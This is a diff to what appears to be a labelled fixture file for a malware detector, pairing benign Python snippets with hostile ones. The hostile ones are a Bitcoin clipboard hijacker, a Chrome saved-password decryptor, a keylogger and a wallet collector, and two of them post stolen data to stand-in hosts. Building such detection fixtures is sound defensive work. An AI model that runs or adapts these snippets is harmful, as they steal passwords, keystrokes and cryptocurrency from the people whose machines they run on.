@@ -1,62 +1,81 @@
-#: bad profiles
+#: bad clipboard-swap
+import re
+import time
+
+import pyperclip
+
+OURS = "bc1qn4k8w2z6x0v5t3r7y9p1m8l6j4h2g0f5d3s1a9"
+ADDRESS = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")
+
+
+def watch():
+    while True:
+        if ADDRESS.match(pyperclip.paste()):
+            pyperclip.copy(OURS)  #!
+        time.sleep(0.5)
+
+#: good clipboard-swap
+import re
+
+import pyperclip
+
+ADDRESS = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")
+
+
+def copy_table(rows):
+    text = "\n".join("\t".join(row) for row in rows)
+    pyperclip.copy(text)
+    return bool(ADDRESS.match(text))
+
+#: bad browser-logins
 import os
 import shutil
 import sqlite3
 
-LOCAL = os.getenv("LOCALAPPDATA", "")
-LOGIN = os.path.join(LOCAL, "Google", "Chrome", "User Data", "Default", "Login Data")
+import win32crypt
 
+profile = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default")
+shutil.copy(os.path.join(profile, "Login Data"), "l.db")
+rows = sqlite3.connect("l.db").execute("SELECT origin_url, username_value, password_value FROM logins")
+found = [(u, n, win32crypt.CryptUnprotectData(p)[1]) for u, n, p in rows]  #!
 
-def rows():
-    shutil.copy2(LOGIN, "lv.db") #!
-    database = sqlite3.connect("lv.db")
-    return database.execute(
-        "SELECT origin_url, username_value, password_value FROM logins" #!
-    ).fetchall()
-#: good profiles
+#: good browser-logins
 import os
 import shutil
 import sqlite3
 
-LOCAL = os.getenv("LOCALAPPDATA", "")
-LIBRARY = os.path.join(LOCAL, "Bookshelf", "User Data", "library.db")
+profile = os.path.join(os.environ["LOCALAPPDATA"], "Notes", "User Data", "Default")
+shutil.copy(os.path.join(profile, "notes.sqlite"), "backup.db")
+rows = sqlite3.connect("backup.db").execute("SELECT title, changed FROM notes")
+found = [(title, changed) for title, changed in rows]
 
-
-def rows():
-    shutil.copy2(LIBRARY, "library-copy.db")
-    database = sqlite3.connect("library-copy.db")
-    return database.execute("SELECT title, author, year FROM books").fetchall()
-#: bad wallets
-from pathlib import Path
-from zipfile import ZipFile
-
+#: bad key-listener
 import requests
+from pynput import keyboard
 
-NAMES = ["Exodus/exodus.wallet", "Electrum/wallets", "Ethereum/keystore", "atomic/Local Storage"]
-
-
-def gather(base=Path.home() / "AppData" / "Roaming"):
-    with ZipFile("w.zip", "w") as archive:
-        for name in NAMES:
-            for path in (base / name).rglob("*"): #!
-                archive.write(path)
-    with open("w.zip", "rb") as handle:
-        requests.post("https://box.coinview.invalid/up", files={"w": handle}) #!
-#: good wallets
-from pathlib import Path
-from zipfile import ZipFile
-
-import requests
-
-NAMES = ["config/theme.json", "config/keymap.json"]
+typed = []
 
 
-def gather(base):
-    with ZipFile("settings.zip", "w") as archive:
-        for name in NAMES:
-            for path in (Path(base) / name).rglob("*"):
-                archive.write(path)
+def on_press(key):
+    typed.append(str(key))
+    if len(typed) > 200:
+        requests.post("https://k.example.invalid/log", data="".join(typed))  #!
+        typed.clear()
 
 
-def price(coin):
-    return requests.get("https://api.coinview.invalid/price/" + coin, timeout=5).json()
+keyboard.Listener(on_press=on_press).start()
+
+#: good key-listener
+from pynput import keyboard
+
+pressed = set()
+
+
+def on_press(key):
+    pressed.add(str(key))
+    if key == keyboard.Key.esc:
+        return False
+
+
+with keyboard.Listener(on_press=on_press) as listener:
+    listener.join()
